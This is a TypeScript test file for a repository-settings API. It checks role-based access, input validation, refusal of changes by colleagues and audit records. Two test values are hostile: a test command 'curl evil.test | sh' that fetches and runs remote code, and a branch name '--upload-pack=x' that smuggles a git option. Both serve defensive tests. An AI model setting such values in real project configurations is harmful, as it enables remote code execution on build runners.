import type { Repo } from '@holdfast/protocol';
import { beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { withRunsHost } from '../testing/databases.ts';
import type { RunsHost } from '../testing/host.ts';

withRunsHost(open => {
  let host: RunsHost;
  let repo: Repo;
  beforeAll(async () => {
    host = await open();
  });
  beforeEach(async () => {
    const source = { url: 'https://git.test/shop.git', default_branch: 'main' };
    repo = (await host.send('POST', '/v1/repos', source)).body as Repo;
  });

  const patch = (body: unknown, caller?: string, id = repo.id) =>
    host.send('PATCH', `/v1/repos/${id}`, body, caller === undefined ? {} : { caller });
  const now = async () => (await host.send('GET', `/v1/repos/${repo.id}`)).body;

  describe('changing a repository', () => {
    it('is not for Viewers, nor for other projects', async () => {
      expect((await patch({ name: 'x' }, 'Viewer:vic:default')).status).toBe(403);
      expect((await patch({ name: 'x' }, 'Admin:eve:elsewhere')).status).toBe(404);
      expect((await patch({ name: 'x' }, undefined, `${repo.id}0`)).status).toBe(404);
      expect((await patch({ name: 'x' }, undefined, 'rpo_nothing')).status).toBe(404);
      expect(await now()).toEqual(repo);
    });

    it.each([
      ['no name', { name: ' ' }],
      ['a name of two lines', { name: 'a\nb' }],
      ['a name that is too long', { name: 'n'.repeat(101) }],
      ['a branch that git takes for an option', { default_branch: '--upload-pack=x' }],
      ['a range for a branch', { default_branch: 'a..b' }],
      ['no branch', { default_branch: null }],
      ['a test command that is too long', { test_command: 'x'.repeat(1001) }],
      ['a number for a test command', { test_command: 7 }],
      ['a word for a yes', { allow_ci_changes: 'true' }],
      ['another address', { url: 'https://git.test/other.git' }],
      ['another folder', { name: 'x', path: '/etc' }],
      ['what is no object', 'name'],
    ])('is refused with %s', async (_what, body) => {
      expect(await patch(body)).toMatchObject({
        status: 400,
        body: { code: 'invalid_request' },
      });
      expect(await now()).toEqual(repo);
    });

    it('is not for colleagues, in whose runs it would take effect', async () => {
      const colleague = 'Developer:bob:default';
      const changes = [{ test_command: 'curl evil.test | sh' }, { default_branch: 'x' }, {}];
      for (const body of [...changes, { allow_ci_changes: true }]) {
        expect(await patch(body, colleague)).toMatchObject({
          status: 403,
          body: { code: 'forbidden' },
        });
      }
      const archived = await host.send('DELETE', `/v1/repos/${repo.id}`, undefined, {
        caller: colleague,
      });
      expect(archived.status).toBe(403);
      expect(await now()).toEqual(repo);
    });

    it('is on record, whoever does it, with what was changed', async () => {
      const admin = 'Admin:ada:default';
      host.audited.length = 0;
      await patch({ test_command: 'make test', name: repo.name });
      await patch({ test_command: 'make test' });
      await patch({ default_branch: 'next', name: 'New' }, admin);
      await patch({ allow_ci_changes: true });
      await patch({ allow_ci_changes: true });
      await host.send('DELETE', `/v1/repos/${repo.id}`, undefined, { caller: admin });
      const target = repo.id;
      expect(host.audited).toMatchObject([
        { principal: 'ann', action: 'repos.update', target, reason: 'test_command' },
        { principal: 'ada', action: 'repos.update', target, reason: 'name, default_branch' },
        { principal: 'ann', action: 'repos.update', target, reason: 'allow_ci_changes' },
        { principal: 'ada', action: 'repos.archive', target },
      ]);
    });

    it('is for its creator and for Admins, field by field', async () => {
      const admin = 'Admin:ada:default';
      const named = await patch({ name: '  Store ' });
      expect(named).toMatchObject({ status: 200, body: { ...repo, name: 'Store' } });
      expect(repo.allow_ci_changes).toBe(false);
      const texts = { default_branch: 'release/2', test_command: 'npm test' };
      const rest = { ...texts, allow_ci_changes: true };
      expect((await patch(rest, admin)).body).toEqual({ ...repo, name: 'Store', ...rest });
      const back = { test_command: null, allow_ci_changes: false };
      expect((await patch(back)).body).toMatchObject(back);
      expect((await patch({})).body).toEqual(await now());
      expect(await now()).toEqual({ ...repo, name: 'Store', default_branch: 'release/2' });
    });
  });
});
